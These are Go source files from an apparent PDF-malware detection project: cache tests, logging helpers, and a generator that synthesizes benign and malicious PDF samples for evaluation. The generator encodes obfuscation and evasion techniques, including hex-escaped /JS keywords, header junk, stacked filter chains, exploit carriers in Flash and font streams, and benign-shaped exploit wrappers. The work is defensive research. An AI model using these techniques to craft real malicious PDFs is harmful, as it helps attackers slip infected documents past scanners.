// reclaim them on any shard touch — including a Stats() scrape on an
// otherwise idle cache.
func TestExpiredEntriesSweptWithoutLookup(t *testing.T) {
	now := time.Unix(1000, 0)
	c := New(Config{TTL: time.Minute, Shards: 1, Now: func() time.Time { return now }})
	c.Do("a", func() (*instrument.Result, error) { return resultWithOutput(100), nil })
	c.Do("b", func() (*instrument.Result, error) { return resultWithOutput(100), nil })

	now = now.Add(2 * time.Minute)
	// No lookup of "a" or "b" — the metrics scrape alone must see (and
	// free) the dead entries.
	s := c.Stats()
	if s.Entries != 0 || s.Bytes != 0 {
		t.Fatalf("stats after TTL = %+v, want 0 entries / 0 bytes without touching the keys", s)
	}
	if s.Expired != 2 {
		t.Fatalf("expired = %d, want 2", s.Expired)
	}
}

// TestExpiredEntriesDoNotCauseEvictions: dead entries must not hold LRU
// capacity against fresh stores — storing into a cache full of expired
// entries sweeps them instead of evicting live ones.
func TestExpiredEntriesDoNotCauseEvictions(t *testing.T) {
	now := time.Unix(1000, 0)
	c := New(Config{TTL: time.Minute, MaxEntries: 2, Shards: 1, Now: func() time.Time { return now }})
	c.Do("a", func() (*instrument.Result, error) { return resultWithOutput(10), nil })
	c.Do("b", func() (*instrument.Result, error) { return resultWithOutput(10), nil })

	now = now.Add(2 * time.Minute)
	c.Do("c", func() (*instrument.Result, error) { return resultWithOutput(10), nil })
	c.Do("d", func() (*instrument.Result, error) { return resultWithOutput(10), nil })

	s := c.Stats()
	if s.Evictions != 0 {
		t.Errorf("evictions = %d, want 0: expired entries should be swept, not charged against the cap", s.Evictions)
	}
	if s.Expired != 2 || s.Entries != 2 {
		t.Errorf("stats = %+v, want 2 expired / 2 resident", s)
	}
	if _, _, ok := c.Get("c"); !ok {
		t.Error("fresh entry c missing")
	}
	if _, _, ok := c.Get("d"); !ok {
		t.Error("fresh entry d missing")
	}
}

// TestSweepPreservesFreshEntries: a sweep triggered by one expired entry
// must stop at the first still-live entry (store order equals expiry
// order under a constant TTL).
func TestSweepPreservesFreshEntries(t *testing.T) {
	now := time.Unix(1000, 0)
	c := New(Config{TTL: time.Minute, Shards: 1, Now: func() time.Time { return now }})
	c.Do("old", func() (*instrument.Result, error) { return resultWithOutput(10), nil })
	now = now.Add(45 * time.Second)
	c.Do("young", func() (*instrument.Result, error) { return resultWithOutput(10), nil })
	now = now.Add(30 * time.Second) // old is 75s dead, young is 30s alive

	s := c.Stats()
	if s.Expired != 1 || s.Entries != 1 {
		t.Fatalf("stats = %+v, want exactly the old entry swept", s)
	}
	if _, _, ok := c.Get("young"); !ok {
		t.Fatal("sweep dropped a still-live entry")
	}
}
