package cache

import (
	"context"
	"errors"
	"testing"
	"time"

	"pdfshield/internal/instrument"
)

// TestFollowerCancelledWhileWaiting: a follower whose context ends while
// it waits on another submission's in-flight front-end stops waiting with
// ctx.Err(); the leader is unaffected and its result is still cached for
// later lookups.
func TestFollowerCancelledWhileWaiting(t *testing.T) {
	c := New(Config{})
	entered := make(chan struct{})
	release := make(chan struct{})
	res := resultWithOutput(4)

	leaderDone := make(chan struct{})
	go func() {
		defer close(leaderDone)
		r, err, oc := c.DoContext(context.Background(), "k", func() (*instrument.Result, error) {
			close(entered)
			<-release
			return res, nil
		})
		if r != res || err != nil || oc != OutcomeMiss {
			t.Errorf("leader got (%p, %v, %v), want (%p, nil, miss)", r, err, oc, res)
		}
	}()
	<-entered

	ctx, cancel := context.WithCancel(context.Background())
	followerDone := make(chan struct{})
	go func() {
		defer close(followerDone)
		r, err, oc := c.DoContext(ctx, "k", func() (*instrument.Result, error) {
			t.Error("follower must not run the front-end")
			return nil, nil
		})
		if r != nil || !errors.Is(err, context.Canceled) {
			t.Errorf("cancelled follower got (%v, %v), want (nil, context.Canceled)", r, err)
		}
		if oc != OutcomeShared {
			t.Errorf("cancelled follower outcome = %v, want shared", oc)
		}
	}()

	// Let the follower join the flight, then cancel it while the leader is
	// still blocked — the follower must return without the leader moving.
	waitFor(t, func() bool { return c.Stats().Shared == 1 })
	cancel()
	select {
	case <-followerDone:
	case <-time.After(5 * time.Second):
		t.Fatal("cancelled follower still waiting on the flight")
	}

	close(release)
	<-leaderDone

	// The flight completed normally, so the entry must be served from
	// cache afterwards.
	r, err, oc := c.DoContext(context.Background(), "k", func() (*instrument.Result, error) {
		t.Error("completed entry must not re-run the front-end")
		return nil, nil
	})
	if r != res || err != nil || oc != OutcomeHit {
		t.Fatalf("post-flight lookup = (%p, %v, %v), want (%p, nil, hit)", r, err, oc, res)
	}
}

// TestLeaderContextErrorNotCached: when the leader's own fn fails with a
// context error (its submission was cancelled mid-front-end), the
// cancellation is reported to that caller but never stored — the next
// submission of the same bytes gets a fresh front-end run.
func TestLeaderContextErrorNotCached(t *testing.T) {
	c := New(Config{})
	calls := 0
	_, err, oc := c.DoContext(context.Background(), "k", func() (*instrument.Result, error) {
		calls++
		return nil, context.Canceled
	})
	if !errors.Is(err, context.Canceled) || oc != OutcomeMiss {
		t.Fatalf("first call = (%v, %v), want (context.Canceled, miss)", err, oc)
	}

	res := resultWithOutput(2)
	r, err, oc := c.DoContext(context.Background(), "k", func() (*instrument.Result, error) {
		calls++
		return res, nil
	})
	if r != res || err != nil || oc != OutcomeMiss {
		t.Fatalf("retry = (%p, %v, %v), want fresh miss with the real result", r, err, oc)
	}
	if calls != 2 {
		t.Fatalf("front-end ran %d times, want 2 (cancellation must not be a terminal verdict)", calls)
	}
}

// TestDoContextPreCancelled: an already-cancelled context still gets a
// cached entry — a hit has no work left to interrupt, and serving it
// keeps hit/cancel races deterministic. (On a miss, aborting before the
// front-end is the fn's job; the pipeline's wrapper checks ctx first.)
func TestDoContextPreCancelled(t *testing.T) {
	c := New(Config{})
	res := resultWithOutput(2)
	if _, err, _ := c.DoContext(context.Background(), "k", func() (*instrument.Result, error) {
		return res, nil
	}); err != nil {
		t.Fatal(err)
	}

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	r, err, oc := c.DoContext(ctx, "k", func() (*instrument.Result, error) {
		t.Error("hit path must not run the front-end")
		return nil, nil
	})
	if r != res || err != nil || oc != OutcomeHit {
		t.Fatalf("cancelled hit = (%p, %v, %v), want the cached result", r, err, oc)
	}
}

// waitFor polls cond for up to five seconds.
func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(5 * time.Second); ; {
		if cond() {
			return
		}
		if time.Now().After(deadline) {
			t.Fatal("condition not reached in time")
		}
		time.Sleep(time.Millisecond)
	}
}
