// Package cli holds the small pieces shared by the pdfshield commands:
// the structured-logging flag family (-log-level, -log-json) backed by
// log/slog, and the journal flag helper. Every command sets the process
// default logger through here, so diagnostics carry a consistent shape
// (level, cmd attribute, optional JSON lines) instead of ad-hoc stderr
// prints.
package cli

import (
	"flag"
	"fmt"
	"log/slog"
	"os"
	"strings"

	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
)

// LogOptions captures the shared logging flags.
type LogOptions struct {
	// Level is the minimum severity emitted: debug, info, warn, error.
	Level string
	// JSON switches the handler from human-readable text to JSON lines
	// (one object per line on stderr, machine-collectable).
	JSON bool
}

// RegisterLogFlags installs -log-level and -log-json on fs (typically
// flag.CommandLine) and returns the options the flags populate.
func RegisterLogFlags(fs *flag.FlagSet) *LogOptions {
	o := &LogOptions{Level: "info"}
	fs.StringVar(&o.Level, "log-level", o.Level, "minimum log level: debug, info, warn or error")
	fs.BoolVar(&o.JSON, "log-json", false, "emit logs as JSON lines instead of text")
	return o
}

// ParseLevel maps a flag string to a slog.Level.
func ParseLevel(s string) (slog.Level, error) {
	switch strings.ToLower(strings.TrimSpace(s)) {
	case "debug":
		return slog.LevelDebug, nil
	case "", "info":
		return slog.LevelInfo, nil
	case "warn", "warning":
		return slog.LevelWarn, nil
	case "error":
		return slog.LevelError, nil
	default:
		return 0, fmt.Errorf("unknown log level %q (want debug, info, warn or error)", s)
	}
}

// SetupLogger builds the logger the options describe (writing to stderr),
// installs it as the slog default so library-level slog calls inherit it,
// and returns it tagged with the command name.
func (o *LogOptions) SetupLogger(cmd string) (*slog.Logger, error) {
	level, err := ParseLevel(o.Level)
	if err != nil {
		return nil, err
	}
	hopts := &slog.HandlerOptions{Level: level}
	var h slog.Handler
	if o.JSON {
		h = slog.NewJSONHandler(os.Stderr, hopts)
	} else {
		h = slog.NewTextHandler(os.Stderr, hopts)
	}
	logger := slog.New(h).With("cmd", cmd)
	slog.SetDefault(logger)
	return logger, nil
}

// JournalOptions captures the shared journaling flags.
type JournalOptions struct {
	// Path is the JSONL journal file to record into ("" = journaling off).
	Path string
	// Session names the recording in the session-start header.
	Session string
}

// RegisterJournalFlags installs -journal and -journal-session on fs.
func RegisterJournalFlags(fs *flag.FlagSet, defaultSession string) *JournalOptions {
	o := &JournalOptions{Session: defaultSession}
	fs.StringVar(&o.Path, "journal", "", "record a forensic event journal (JSONL) to this file; empty = off")
	fs.StringVar(&o.Session, "journal-session", o.Session, "session name stamped in the journal header")
	return o
}

// Open creates the journal writer the options describe, or returns nil
// when journaling is off. CLI journals flush per event: the file is a
// forensic record that must survive a crash of the very process it is
// documenting.
func (o *JournalOptions) Open(reg *obs.Registry) (*journal.Writer, error) {
	if o.Path == "" {
		return nil, nil
	}
	return journal.Create(o.Path, journal.Options{
		Session:   o.Session,
		Obs:       reg,
		FlushEach: true,
	})
}
