package corpus

import (
	"fmt"
	"math/rand"
	"strings"

	"pdfshield/internal/pdf"
)

// docSpec describes one synthetic document to assemble.
type docSpec struct {
	// scripts to attach, in trigger order. The first is wired to
	// /OpenAction; subsequent ones chain via /Next when nextChain is set,
	// otherwise they go into the /Names Javascript tree.
	scripts   []string
	nextChain bool

	// pages and contentBytes control benign bulk (and the F1 ratio).
	pages        int
	contentBytes int
	// noPages omits the page tree entirely: every object sits on the
	// Javascript chain (ratio exactly 1, the paper's 64 degenerate
	// samples).
	noPages bool
	// imageBytes adds incompressible image XObjects totalling this size,
	// so large documents stay large on disk (Table X/XI size classes).
	imageBytes int

	// infoTitle sets /Info /Title (benign metadata, or the payload hiding
	// spot for title-hidden exploits).
	infoTitle string
	// noInfo suppresses the default /Info dictionary.
	noInfo bool

	// embedded exploit content.
	flashPayload string // malformed SWF payload program
	fontPayload  string // malformed font payload program
	eggData      []byte // EmbeddedFile egg for egg-hunt samples
	// embedPDFs are whole PDF documents attached as /EmbeddedFile streams
	// (the embedded-document vector of §VI).
	embedPDFs [][]byte

	// obfuscation knobs (static features F2-F5).
	headerObf      bool
	hexKeyword     bool
	emptyObjects   int
	encodingLevels int // filter-chain depth for the JS stream (1 = normal)
	noEncoding     bool

	// scriptAsStream stores scripts in streams (vs direct strings).
	scriptAsStream bool

	// ownerPassword encrypts the document in view-only mode.
	ownerPassword string
}

// buildDoc assembles the PDF for a spec.
func buildDoc(rng *rand.Rand, spec docSpec) ([]byte, error) {
	d := pdf.NewDocument()

	// Content/pages first so object numbers resemble real generators.
	var pageRefs pdf.Array
	for i := 0; i < spec.pages; i++ {
		var contentRef pdf.Object
		if spec.contentBytes > 0 {
			per := spec.contentBytes / spec.pages
			content := syntheticContent(rng, per)
			raw, filterObj, err := pdf.EncodeChain([]pdf.Name{pdf.FilterFlate}, content)
			if err != nil {
				return nil, err
			}
			contentRef = d.Add(&pdf.Stream{Dict: pdf.Dict{"Filter": filterObj}, Raw: raw})
		}
		pageDict := pdf.Dict{"Type": pdf.Name("Page")}
		if contentRef != nil {
			pageDict["Contents"] = contentRef
		}
		if spec.imageBytes > 0 {
			per := spec.imageBytes / spec.pages
			img := make([]byte, per)
			for j := range img {
				img[j] = byte(rng.Intn(256))
			}
			imgRef := d.Add(&pdf.Stream{
				Dict: pdf.Dict{
					"Type":    pdf.Name("XObject"),
					"Subtype": pdf.Name("Image"),
					"Width":   pdf.Integer(512),
					"Height":  pdf.Integer(512),
				},
				Raw: img,
			})
			pageDict["Resources"] = pdf.Dict{"XObject": pdf.Dict{"Im0": imgRef}}
		}
		// Font resources add benign object bulk.
		if spec.contentBytes > 0 && i == 0 {
			font := d.Add(pdf.Dict{"Type": pdf.Name("Font"), "Subtype": pdf.Name("Type1"), "BaseFont": pdf.Name("Helvetica")})
			pageDict["Resources"] = pdf.Dict{"Font": pdf.Dict{"F1": font}}
		}
		pageRefs = append(pageRefs, d.Add(pageDict))
	}
	catalog := pdf.Dict{"Type": pdf.Name("Catalog")}
	if !spec.noPages {
		if len(pageRefs) == 0 {
			pageRefs = append(pageRefs, d.Add(pdf.Dict{"Type": pdf.Name("Page")}))
		}
		pages := d.Add(pdf.Dict{"Type": pdf.Name("Pages"), "Kids": pageRefs, "Count": pdf.Integer(len(pageRefs))})
		catalog["Pages"] = pages
	}

	// Scripts.
	if len(spec.scripts) > 0 {
		actionRefs, err := addScripts(d, rng, spec)
		if err != nil {
			return nil, err
		}
		catalog["OpenAction"] = actionRefs[0]
		if !spec.nextChain && len(actionRefs) > 1 {
			// Remaining scripts through the Names tree.
			var nameArr pdf.Array
			for i, ref := range actionRefs[1:] {
				nameArr = append(nameArr, pdf.String{Value: []byte(fmt.Sprintf("js%d", i))}, ref)
			}
			tree := d.Add(pdf.Dict{"Names": nameArr})
			names := d.Add(pdf.Dict{"JavaScript": tree})
			catalog["Names"] = names
		}
	}

	// Embedded exploit carriers.
	if spec.flashPayload != "" {
		flash := d.Add(&pdf.Stream{
			Dict: pdf.Dict{"Subtype": pdf.Name("Flash")},
			Raw:  []byte("FWS\x09 malformed " + jsUnescapePayload(spec.flashPayload) + "|"),
		})
		annot := d.Add(pdf.Dict{"Type": pdf.Name("Annot"), "Subtype": pdf.Name("RichMedia"), "FS": flash})
		// Attach to the first page when one exists.
		if len(pageRefs) > 0 {
			if first, ok := d.Get(pageRefs[0].(pdf.Ref).Num); ok {
				if pd, isDict := first.Object.(pdf.Dict); isDict {
					pd["Annots"] = pdf.Array{annot}
				}
			}
		}
	}
	if spec.fontPayload != "" {
		font := d.Add(&pdf.Stream{
			Dict: pdf.Dict{"Subtype": pdf.Name("TrueType")},
			Raw:  []byte("SING table \x00\x01 " + jsUnescapePayload(spec.fontPayload) + "|"),
		})
		desc := d.Add(pdf.Dict{"Type": pdf.Name("FontDescriptor"), "FontFile2": font})
		d.Add(pdf.Dict{"Type": pdf.Name("Font"), "Subtype": pdf.Name("TrueType"), "FontDescriptor": desc})
	}
	for _, embedded := range spec.embedPDFs {
		raw, filterObj, err := pdf.EncodeChain([]pdf.Name{pdf.FilterFlate}, embedded)
		if err != nil {
			return nil, err
		}
		d.Add(&pdf.Stream{
			Dict: pdf.Dict{"Type": pdf.Name("EmbeddedFile"), "Filter": filterObj},
			Raw:  raw,
		})
	}
	if spec.eggData != nil {
		d.Add(&pdf.Stream{
			Dict: pdf.Dict{"Type": pdf.Name("EmbeddedFile")},
			Raw:  append([]byte("EGG!"), spec.eggData...),
		})
	}

	for i := 0; i < spec.emptyObjects; i++ {
		d.Add(pdf.Dict{})
	}

	catalogRef := d.Add(catalog)
	d.Trailer["Root"] = catalogRef
	if !spec.noInfo {
		title := spec.infoTitle
		if title == "" {
			titles := []string{
				"Annual Report", "Meeting Minutes", "Invoice", "Datasheet",
				"User Guide", "Conference Paper", "Expense Summary",
			}
			title = titles[rng.Intn(len(titles))]
		}
		producers := []string{
			"LaTeX with hyperref", "Microsoft Word", "LibreOffice 4.0",
			"Acrobat Distiller 9.0", "pdfTeX-1.40",
		}
		info := d.Add(pdf.Dict{
			"Title":    pdf.String{Value: []byte(title)},
			"Producer": pdf.String{Value: []byte(producers[rng.Intn(len(producers))])},
		})
		d.Trailer["Info"] = info
	}

	if spec.ownerPassword != "" {
		if err := pdf.EncryptOwner(d, spec.ownerPassword); err != nil {
			return nil, err
		}
	}

	opts := pdf.WriteOptions{BinaryComment: spec.contentBytes > 0}
	if spec.headerObf {
		switch rng.Intn(3) {
		case 0:
			opts.HeaderJunk = []byte("GIF89a;junk-prefix-bytes\n")
		case 1:
			opts.Version = "8.1"
		default:
			opts.HeaderJunk = []byte(strings.Repeat("\x00", 64))
		}
	}
	raw, err := pdf.Write(d, opts)
	if err != nil {
		return nil, err
	}
	if spec.hexKeyword {
		raw = applyHexKeyword(rng, raw)
	}
	return raw, nil
}

// addScripts inserts script-holding actions, returning their refs.
func addScripts(d *pdf.Document, rng *rand.Rand, spec docSpec) ([]pdf.Ref, error) {
	refs := make([]pdf.Ref, len(spec.scripts))
	// Build in reverse so /Next links resolve.
	var next pdf.Object
	for i := len(spec.scripts) - 1; i >= 0; i-- {
		var jsVal pdf.Object
		if spec.scriptAsStream || spec.encodingLevels > 0 {
			levels := spec.encodingLevels
			if levels == 0 {
				levels = 1
			}
			chain := filterChain(rng, levels, spec.noEncoding)
			raw, filterObj, err := pdf.EncodeChain(chain, []byte(spec.scripts[i]))
			if err != nil {
				return nil, err
			}
			dict := pdf.Dict{}
			if filterObj != nil {
				dict["Filter"] = filterObj
			}
			jsVal = d.Add(&pdf.Stream{Dict: dict, Raw: raw})
		} else {
			jsVal = pdf.String{Value: []byte(spec.scripts[i])}
		}
		action := pdf.Dict{"Type": pdf.Name("Action"), "S": pdf.Name("JavaScript"), "JS": jsVal}
		if spec.nextChain && next != nil {
			action["Next"] = next
		}
		ref := d.Add(action)
		refs[i] = ref
		next = ref
	}
	return refs, nil
}

func filterChain(rng *rand.Rand, levels int, noEncoding bool) []pdf.Name {
	if noEncoding {
		return nil
	}
	options := []pdf.Name{pdf.FilterFlate, pdf.FilterASCIIHex, pdf.FilterASCII85, pdf.FilterRunLength, pdf.FilterLZW}
	chain := make([]pdf.Name, 0, levels)
	chain = append(chain, pdf.FilterFlate)
	for len(chain) < levels {
		chain = append(chain, options[rng.Intn(len(options))])
	}
	return chain
}

// applyHexKeyword rewrites a /JS or /JavaScript key with #xx escapes at
// byte level, the way obfuscated samples in the wild do.
func applyHexKeyword(rng *rand.Rand, raw []byte) []byte {
	s := string(raw)
	replacements := []struct{ from, to string }{
		{"/JS ", "/J#53 "},
		{"/JavaScript ", "/JavaScr#69pt "},
		{"/JavaScript ", "/Java#53cript "},
	}
	r := replacements[rng.Intn(len(replacements))]
	if !strings.Contains(s, r.from) {
		r = replacements[0]
	}
	return []byte(strings.Replace(s, r.from, r.to, 1))
}

// jsUnescapePayload converts a payload literal written for JS-string
// embedding (double backslashes) into raw text for direct PDF embedding.
func jsUnescapePayload(p string) string {
	return strings.ReplaceAll(p, `\\`, `\`)
}

// syntheticContent renders a content stream of roughly n bytes.
func syntheticContent(rng *rand.Rand, n int) []byte {
	words := []string{
		"annual", "report", "figure", "table", "analysis", "revenue",
		"quarter", "growth", "infrastructure", "deployment", "latency",
		"distributed", "systems", "evaluation", "performance", "summary",
	}
	var sb strings.Builder
	sb.WriteString("BT /F1 11 Tf 72 720 Td\n")
	for sb.Len() < n {
		line := make([]string, 0, 8)
		for i := 0; i < 8; i++ {
			line = append(line, words[rng.Intn(len(words))])
		}
		fmt.Fprintf(&sb, "(%s) Tj 0 -14 Td\n", strings.Join(line, " "))
	}
	sb.WriteString("ET\n")
	return []byte(sb.String())
}
