// Package corpus synthesizes the benign and malicious PDF samples used by
// the evaluation. The paper's dataset (Table V: 18623 benign / 7370
// malicious from Contagiodump) is proprietary-by-circumstance; the
// generators reproduce its *family mix* — exploit vector distribution,
// obfuscation statistics (Table VI), Javascript-chain ratios (Figure 6) and
// spray sizes (Figure 7) — so the evaluation statistics are driven by the
// same population structure.
package corpus

import (
	"fmt"
	"math/rand"
)

// Label classifies a sample's ground truth.
type Label int

// Labels.
const (
	LabelBenign Label = iota + 1
	LabelMalicious
)

func (l Label) String() string {
	if l == LabelMalicious {
		return "malicious"
	}
	return "benign"
}

// Outcome is the expected runtime behaviour on the simulated Acrobat
// 8.0/9.0.
type Outcome int

// Outcomes.
const (
	// OutcomeHarmless: benign behaviour.
	OutcomeHarmless Outcome = iota + 1
	// OutcomeExploit: working exploit, infection attempt visible.
	OutcomeExploit
	// OutcomeNoop: exploit does not work on this reader version ("did
	// nothing" samples, excluded from FN accounting in Table VIII).
	OutcomeNoop
	// OutcomeCrash: exploit attempts but crashes the reader.
	OutcomeCrash
)

// Sample is one synthetic document with ground truth.
type Sample struct {
	ID      string
	Raw     []byte
	Label   Label
	Family  string
	HasJS   bool
	Outcome Outcome
	// Obfuscated reports whether any static obfuscation was applied.
	Obfuscated bool
}

// Generator builds samples deterministically from a seed.
type Generator struct {
	rng  *rand.Rand
	next int
}

// NewGenerator returns a seeded generator.
func NewGenerator(seed int64) *Generator {
	//nolint:gosec // deterministic corpus synthesis, not cryptography.
	return &Generator{rng: rand.New(rand.NewSource(seed))}
}

func (g *Generator) id(prefix string) string {
	g.next++
	return fmt.Sprintf("%s-%05d", prefix, g.next)
}

// ---- benign families ----

// BenignText builds a scriptless text document of roughly targetBytes.
func (g *Generator) BenignText(targetBytes int) Sample {
	pages := 1 + targetBytes/(24<<10)
	if pages > 64 {
		pages = 64
	}
	raw, err := buildDoc(g.rng, docSpec{pages: pages, contentBytes: targetBytes})
	if err != nil {
		panic("corpus: benign text: " + err.Error())
	}
	return Sample{ID: g.id("benign-text"), Raw: raw, Label: LabelBenign, Family: "benign-text", Outcome: OutcomeHarmless}
}

// BenignFormJS builds a form document with benign field Javascript.
func (g *Generator) BenignFormJS() Sample {
	nScripts := 1 + g.rng.Intn(3)
	scripts := make([]string, nScripts)
	for i := range scripts {
		// Roughly half the form documents do real string work (report and
		// table builders), giving the benign population its few-MB
		// JS-context memory profile (Figure 7).
		if g.rng.Intn(2) == 0 {
			scripts[i] = benignHeavyScript(g.rng)
		} else {
			scripts[i] = benignFormScript(g.rng)
		}
	}
	spec := docSpec{
		scripts:        scripts,
		pages:          8 + g.rng.Intn(16),
		contentBytes:   40<<10 + g.rng.Intn(300<<10),
		scriptAsStream: g.rng.Intn(2) == 0,
	}
	// A small tail of benign JS docs is small enough that its ratio
	// crosses 0.2, matching Figure 6's benign tail.
	if g.rng.Intn(14) == 0 {
		spec.pages = 1
		spec.contentBytes = 2 << 10
	}
	raw, err := buildDoc(g.rng, spec)
	if err != nil {
		panic("corpus: benign form: " + err.Error())
	}
	return Sample{ID: g.id("benign-form"), Raw: raw, Label: LabelBenign, Family: "benign-form-js", HasJS: true, Outcome: OutcomeHarmless}
}

// BenignInteractiveJS builds the open-phase benchmark population: small
// interactive documents (a few KB of carrier) holding several light form
// scripts. Their open cost is dominated by script handling — monitoring
// prologue parse/compile plus brief execution — rather than by carrier
// parsing or bulk string work, which is exactly the population where the
// script engine's open-path cost shows.
func (g *Generator) BenignInteractiveJS() Sample {
	n := 2 + g.rng.Intn(3)
	scripts := make([]string, n)
	for i := range scripts {
		scripts[i] = benignFormScript(g.rng)
	}
	spec := docSpec{
		scripts:        scripts,
		pages:          1 + g.rng.Intn(2),
		contentBytes:   3<<10 + g.rng.Intn(4<<10),
		scriptAsStream: g.rng.Intn(2) == 0,
	}
	raw, err := buildDoc(g.rng, spec)
	if err != nil {
		panic("corpus: benign interactive: " + err.Error())
	}
	return Sample{ID: g.id("benign-inter"), Raw: raw, Label: LabelBenign, Family: "benign-interactive-js", HasJS: true, Outcome: OutcomeHarmless}
}

// BenignNavJS builds a document with navigation/viewer scripts.
func (g *Generator) BenignNavJS() Sample {
	spec := docSpec{
		scripts:      []string{benignNavScript(g.rng)},
		pages:        8 + g.rng.Intn(20),
		contentBytes: 60<<10 + g.rng.Intn(400<<10),
	}
	raw, err := buildDoc(g.rng, spec)
	if err != nil {
		panic("corpus: benign nav: " + err.Error())
	}
	return Sample{ID: g.id("benign-nav"), Raw: raw, Label: LabelBenign, Family: "benign-nav-js", HasJS: true, Outcome: OutcomeHarmless}
}

// BenignSOAPJS builds the rare legitimate SOAP web-service user.
func (g *Generator) BenignSOAPJS() Sample {
	spec := docSpec{
		scripts:      []string{benignSOAPScript},
		pages:        8,
		contentBytes: 90 << 10,
	}
	raw, err := buildDoc(g.rng, spec)
	if err != nil {
		panic("corpus: benign soap: " + err.Error())
	}
	return Sample{ID: g.id("benign-soap"), Raw: raw, Label: LabelBenign, Family: "benign-soap-js", HasJS: true, Outcome: OutcomeHarmless}
}

// BenignMultiScript builds a document with sequentially chained scripts.
func (g *Generator) BenignMultiScript() Sample {
	n := 2 + g.rng.Intn(3)
	scripts := make([]string, n)
	for i := range scripts {
		scripts[i] = benignFormScript(g.rng)
	}
	spec := docSpec{
		scripts:      scripts,
		nextChain:    true,
		pages:        12 + g.rng.Intn(12),
		contentBytes: 120 << 10,
	}
	raw, err := buildDoc(g.rng, spec)
	if err != nil {
		panic("corpus: benign multi: " + err.Error())
	}
	return Sample{ID: g.id("benign-multi"), Raw: raw, Label: LabelBenign, Family: "benign-multi-js", HasJS: true, Outcome: OutcomeHarmless}
}

// Sized builds a document of roughly targetBytes with Javascript, benign
// or malicious, for the Table X/XI size-class measurements.
func (g *Generator) Sized(targetBytes int, malicious bool) Sample {
	if malicious {
		s := g.Malicious()
		if len(s.Raw) < targetBytes {
			s.Raw = padDocument(s.Raw, targetBytes)
		}
		return s
	}
	pages := 1 + targetBytes/(48<<10)
	if pages > 96 {
		pages = 96
	}
	// Text compresses ~10:1; images are stored raw, so split the budget to
	// land near the target on disk.
	content := targetBytes / 4
	images := targetBytes - content/10
	if images < 0 {
		images = 0
	}
	spec := docSpec{
		scripts:        []string{benignFormScript(g.rng)},
		pages:          pages,
		contentBytes:   content,
		imageBytes:     images,
		scriptAsStream: true,
	}
	raw, err := buildDoc(g.rng, spec)
	if err != nil {
		panic("corpus: sized: " + err.Error())
	}
	return Sample{ID: g.id("sized"), Raw: raw, Label: LabelBenign, Family: "sized-benign", HasJS: true, Outcome: OutcomeHarmless}
}

// BuildBenignShapedExploit wraps an attacker-supplied script in a document
// whose structure mimics the benign population: many pages, text content,
// fonts, benign metadata, single-level encoding and no obfuscation. Used by
// the structural-mimicry attack [8].
func BuildBenignShapedExploit(rng *rand.Rand, script string) ([]byte, error) {
	spec := docSpec{
		scripts:        []string{script},
		pages:          14 + rng.Intn(10),
		contentBytes:   200<<10 + rng.Intn(100<<10),
		scriptAsStream: true,
		encodingLevels: 1,
		infoTitle:      "Quarterly Business Review",
	}
	return buildDoc(rng, spec)
}

// padDocument appends comment padding after %%EOF; readers ignore it but
// the file size (and parse surface) grows.
func padDocument(raw []byte, target int) []byte {
	for len(raw) < target {
		chunk := target - len(raw)
		if chunk > 4096 {
			chunk = 4096
		}
		line := make([]byte, chunk)
		line[0] = '%'
		for i := 1; i < chunk-1; i++ {
			line[i] = 'x'
		}
		line[chunk-1] = '\n'
		raw = append(raw, line...)
	}
	return raw
}

// BenignAttachments builds a scriptless compound document: a host carrying
// n scriptless PDF attachments as /EmbeddedFile streams, optionally
// owner-password encrypted. This is the report-plus-annexes shape common in
// enterprise mail flow; the front-end must parse the host, strip the owner
// password, and recursively analyze every attachment before it can conclude
// there is no Javascript anywhere, which makes the family the deepest
// all-static workload the corpus offers.
func (g *Generator) BenignAttachments(n int, encrypted bool) Sample {
	if n < 1 {
		n = 1
	}
	inner := make([][]byte, n)
	for i := range inner {
		raw, err := buildDoc(g.rng, docSpec{pages: 1 + i%2, contentBytes: (6 + 4*(i%3)) << 10})
		if err != nil {
			panic("corpus: benign attachments: " + err.Error())
		}
		inner[i] = raw
	}
	spec := docSpec{
		pages:        2,
		contentBytes: 10 << 10,
		embedPDFs:    inner,
	}
	if encrypted {
		spec.ownerPassword = fmt.Sprintf("owner-%04d", g.rng.Intn(10000))
	}
	raw, err := buildDoc(g.rng, spec)
	if err != nil {
		panic("corpus: benign attachments: " + err.Error())
	}
	return Sample{ID: g.id("benign-attach"), Raw: raw, Label: LabelBenign, Family: "benign-attachments", Outcome: OutcomeHarmless}
}

// BenignEncrypted builds an owner-password (view-only) benign document.
func (g *Generator) BenignEncrypted() Sample {
	spec := docSpec{
		scripts:       []string{benignFormScript(g.rng)},
		pages:         8,
		contentBytes:  80 << 10,
		ownerPassword: fmt.Sprintf("owner-%04d", g.rng.Intn(10000)),
	}
	raw, err := buildDoc(g.rng, spec)
	if err != nil {
		panic("corpus: benign encrypted: " + err.Error())
	}
	return Sample{ID: g.id("benign-enc"), Raw: raw, Label: LabelBenign, Family: "benign-encrypted-js", HasJS: true, Outcome: OutcomeHarmless}
}
