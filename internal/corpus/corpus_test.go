package corpus

import (
	"testing"

	"pdfshield/internal/instrument"
	"pdfshield/internal/pdf"
)

func TestBenignTextParses(t *testing.T) {
	g := NewGenerator(1)
	for _, size := range []int{2 << 10, 100 << 10, 1 << 20} {
		s := g.BenignText(size)
		feats, chains, _, err := instrument.Analyze(s.Raw)
		if err != nil {
			t.Fatalf("size %d: %v", size, err)
		}
		if chains.HasJavaScript() {
			t.Errorf("benign text has JS")
		}
		if feats.HeaderObfuscated {
			t.Errorf("benign text header obfuscated")
		}
	}
}

func TestBenignJSFamiliesParse(t *testing.T) {
	g := NewGenerator(2)
	samples := g.BenignWithJS(40)
	for _, s := range samples {
		feats, chains, _, err := instrument.Analyze(s.Raw)
		if err != nil {
			t.Fatalf("%s: %v", s.ID, err)
		}
		if !chains.HasJavaScript() {
			t.Errorf("%s (%s): no JS found", s.ID, s.Family)
		}
		if feats.HeaderObfuscated || feats.HexCodeCount > 0 || feats.EmptyObjects > 0 {
			t.Errorf("%s: benign doc carries obfuscation: %s", s.ID, feats)
		}
		if feats.EncodingLevels > 1 {
			t.Errorf("%s: benign multi-encoding: %d", s.ID, feats.EncodingLevels)
		}
	}
}

func TestBenignRatioMostlyLow(t *testing.T) {
	g := NewGenerator(3)
	samples := g.BenignWithJS(100)
	low := 0
	for _, s := range samples {
		_, chains, _, err := instrument.Analyze(s.Raw)
		if err != nil {
			t.Fatal(err)
		}
		if chains.Ratio() < 0.2 {
			low++
		}
	}
